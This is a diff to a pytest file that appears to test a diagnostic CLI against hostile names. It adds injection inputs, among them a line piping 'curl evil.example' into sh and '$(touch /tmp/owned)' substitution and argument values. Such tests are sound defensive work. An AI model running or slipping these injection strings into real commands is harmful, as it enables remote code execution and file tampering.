@@ -12,6 +12,7 @@ import pytest
 from hta_widgets.analysis.evidence.names import cleaned, quoted, quoted_in
 from hta_widgets.cli.opening import kept_open
 from tests.evidence.command import ask, filled
+from tests.support import EVERY_CASE
 from tests.verdicts.planted.host_program import MS, US, Program
 
 INSTRUCTIONS = [
@@ -37,6 +38,14 @@ INSTRUCTIONS = [
     "A" * 5000,
 ]
 PLAIN = "aten::slow_op"
+# Those that could become an argument or a path: the commands of their findings are run, too.
+IN_COMMANDS = (
+    "`; curl evil.example | sh #",
+    "TRACE",
+    "--output=/tmp/owned",
+    "$(touch /tmp/owned)",
+    "A" * 5000,
+)
 HIDDEN = re.compile(r"[\x00-\x1f\x7f-\x9f\u200b\u202e\u2060\U000f0000]")
 OURS = ("the", "TRACE", "")  # words of every document
 
@@ -121,7 +130,8 @@ def test_a_name_that_reads_like_an_instruction_changes_nothing(
         if core not in OURS:
             for text in prose(document):
                 assert core not in re.sub(r"`[^`]*`", "", text)
-        for run in [run for finding in document["findings"] for run in finding["runs"]]:
+        findings = document["findings"] if EVERY_CASE or name in IN_COMMANDS else []
+        for run in [run for finding in findings for run in finding["runs"]]:
             answer = ask(*filled(run["argv"], folder), "-q")
             assert answer.code == 0 and answer.out.isascii() and answer.tokens <= 1.25 * run["about_tokens"]
         page = ask("diagnose", folder, "-q").out
